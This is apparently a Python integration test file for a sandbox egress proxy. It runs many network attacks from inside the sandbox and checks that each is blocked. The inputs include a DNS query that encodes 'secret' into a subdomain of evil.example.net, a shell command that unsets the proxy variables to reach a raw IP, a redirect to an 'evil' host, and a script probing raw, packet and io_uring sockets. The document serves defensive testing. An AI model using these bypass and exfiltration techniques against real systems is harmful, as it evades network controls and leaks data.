"""Every written attack of the group network, attempted from inside a real sandbox."""

from __future__ import annotations

import errno
import json
from typing import TYPE_CHECKING, Any

from tests.integration.egress.hosts import Host, page
from tests.integration.egress.world import CASES, PUBLIC, SPEC, limited

if TYPE_CHECKING:
    from tests.integration.egress.world import World

AGENTS = {"169.254.169.254": "metadata", "*": "everything"}
"""The agents whose policy a case brings with it, by its allowed host."""
ATTEMPTED_APART = {"N18a", "N20a", "N26a", "N27a", "N28a", "N29a", "N30a", "N31a", "N34a"}
DIRECT = {"direct", "socket"}
DENIED = {"connect": range(400, 600), "http": range(400, 600)}
DATAGRAMS = "N19"


def _agent(case: dict[str, Any]) -> str:
    policy = case["request"].get("policy")
    return AGENTS[policy["allowed_hosts"][0]] if policy else "attacked"


def _step(case: dict[str, Any]) -> dict[str, Any]:
    given = case["request"]
    step = {"id": case["id"], **{name: given[name] for name in given if name != "kind"}}
    if given["via"] == "connect":
        step["sni"] = given.get("sni", "api.example.com")
        if "payload" in given:
            step["bytes"] = given["payload"].encode().hex()
    if given["via"] == "socks5":
        step["sni"] = "api.example.com"
        step["code"] = {"BIND": 2}.get(given.get("command", ""), 1)
    return step


def _refused(found: dict[str, Any]) -> bool:
    """Whether nothing of what was asked came about, and the client was told or cut off."""
    if "body" in found and found.get("status") in {None, 200} and found["body"]:
        return False
    return (
        found.get("status") in DENIED["connect"]
        or found.get("code", 0) not in {0, None}
        or "tls" in found
        or found.get("body") == ""
        or found.get("error") in {"ConnectionResetError", "BrokenPipeError"}
    )


def _cases(*, direct: bool) -> list[dict[str, Any]]:
    return [
        case
        for case in CASES
        if case["request"]["kind"] == "net"
        and case["id"] not in ATTEMPTED_APART
        and (case["request"]["via"] in DIRECT) == direct
    ]


def test_attacks_through_the_proxy(world: World) -> None:
    cases = _cases(direct=False)
    assert len(cases) > 50
    wrong = []
    for agent in sorted({_agent(case) for case in cases}):
        for resolver in sorted({json.dumps(one["request"].get("resolver")) for one in cases}):
            own = [
                case
                for case in cases
                if _agent(case) == agent and json.dumps(case["request"].get("resolver")) == resolver
            ]
            if not own:
                continue
            usual = dict(world.names)
            world.names |= json.loads(resolver) or {}
            found = world.steps(agent, *map(_step, own))
            world.names = usual
            for case, came in zip(own, found, strict=True):
                allowed = case["expect"] == "allow"
                if allowed != (came.get("body") == "hello") or allowed == _refused(came):
                    wrong.append((case["id"], case["attack"], came.get("told") or came))
    assert wrong == []
    asked = {data.split(b"\r\n")[0] for data in world.secure.heard}
    assert asked <= {b"GET / HTTP/1.0"}
    # What was refused was not sent to anybody: only the controls were heard.
    controls = [case for case in cases if case["expect"] == "allow"]
    assert len(world.secure.heard) == len(controls) > 0
    assert world.plain.heard == []


def test_attacks_past_the_proxy(world: World) -> None:
    cases = _cases(direct=True)
    found = world.steps("attacked", *map(_step, cases))
    reached = [came for came in found if came["errno"] in {0, None}]
    assert reached == []
    assert len(found) == 5
    for case, came in zip(cases, found, strict=True):
        if "errno" in case["request"]:
            assert errno.errorcode[came["errno"]] == case["request"]["errno"]


def test_direct_connection_although_the_variables_are_unset(world: World) -> None:
    ended, printed = world.run(
        "attacked",
        "/bin/sh", "-c",
        "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy;"
        " curl -sk https://203.0.113.10/; echo $?; curl -s http://api.example.com/; echo $?",
    )  # fmt: skip
    # 7: no route; 6: nobody resolves names inside.
    assert printed.split() == ["7", "6"]
    assert ended.record["egress"]["connections"] == 0


def test_a_name_query_does_not_leave(world: World) -> None:
    world.names["c2VjcmV0.evil.example.net"] = [PUBLIC]
    [found] = world.steps("attacked", {"via": "name", "target": "c2VjcmV0.evil.example.net"})
    assert "found" not in found
    assert world.way.record()["connections"] == 0


def test_the_other_sandboxes_proxy_is_out_of_reach(world: World) -> None:
    """Each sandbox's listeners are its own, though all listen on the same numbers."""
    target = {"via": "connect", "target": "other.example.org:443", "sni": "other.example.org"}
    inner: list[dict[str, Any]] = []

    def meanwhile(chunk: bytes) -> None:
        if b'"open": true' in chunk:
            inner.extend(world.steps("attacked", target))
            world.publish(SPEC.replace("other.example.org", "elsewhere.example.org"))

    holding = {**target, "via": "hold", "authority": world.authority.certificate}
    [held] = world.steps("other", holding, said=meanwhile)
    assert held["ended"]
    assert [one["status"] for one in inner] == [403]


def test_the_policy_engine_is_out_of_reach(world: World) -> None:
    service = Host(page)
    target = f"127.0.0.1:{service.port}"
    direct, through = world.steps(
        "attacked", {"via": "direct", "target": target}, {"via": "connect", "target": target}
    )
    service.close()
    assert errno.errorcode[direct["errno"]] == "ECONNREFUSED"
    assert through["status"] == 403
    assert service.accepted == 0


def test_a_redirect_is_a_new_connection(world: World) -> None:
    ended, printed = world.run(
        "attacked", "/usr/bin/curl", "-sL", "http://plain.example.com/redirect-to-evil"
    )
    told = json.loads(printed)
    assert (told["detail"], ended.record["egress"]["refused"]) == ("no_rule_matches", 1)
    assert len(world.plain.heard) == 1


def test_more_connections_than_granted(world: World) -> None:
    step = {"via": "together", "target": "api.example.com:443", "times": 6}
    [found] = world.steps("attacked", step, plan=limited(connections=5))
    assert found["statuses"] == [200, 200, 200, 200, 200, 429]
    [control] = world.steps("attacked", step, plan=limited(connections=6))
    assert control["statuses"] == [200] * 6


SYSCALLS = """
import ctypes, errno, json, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
def tried(act):
    try: act()
    except OSError as error: return errno.errorcode[error.errno]
    return "done"
def made(family):
    return tried(lambda: [socket.socket(family, kind) for kind in (1, 3)])
def raw_pair():
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)
    ours.connect(sys.argv[1])
def ring():
    memory = ctypes.create_string_buffer(256)
    if libc.syscall(425, 4, memory) < 0: raise OSError(ctypes.get_errno(), "")
print(json.dumps({
    **{name: made(getattr(socket, name, number)) for name, number in (
        ("AF_UNIX", 1), ("AF_NETLINK", 16), ("AF_VSOCK", 40), ("AF_PACKET", 17), ("AF_ALG", 38),
        ("AF_BLUETOOTH", 31))},
    "raw pair": tried(raw_pair), "io_uring": tried(ring), "pair": tried(socket.socketpair),
    "inet": tried(socket.socket),
}))
"""


def test_sockets_of_other_families(world: World) -> None:
    families = {
        case["request"]["args"][0]
        for case in CASES
        if case["request"]["kind"] == "syscall" and case["request"]["call"] == "socket"
    }
    ended, printed = world.run("attacked", "/usr/bin/python3", "-I", "-c", SYSCALLS, "./host.sock")
    found = json.loads(printed)
    assert ended.record["network"] == "restricted"
    assert {name: found[name] for name in families} == dict.fromkeys(families, "EPERM")
    # Without a socket of the family neither a path nor an abstract name can be connected to.
    assert (found["raw pair"], found["io_uring"]) == ("EPERM", "EPERM")
    assert (found["pair"], found["inet"]) == ("done", "done")
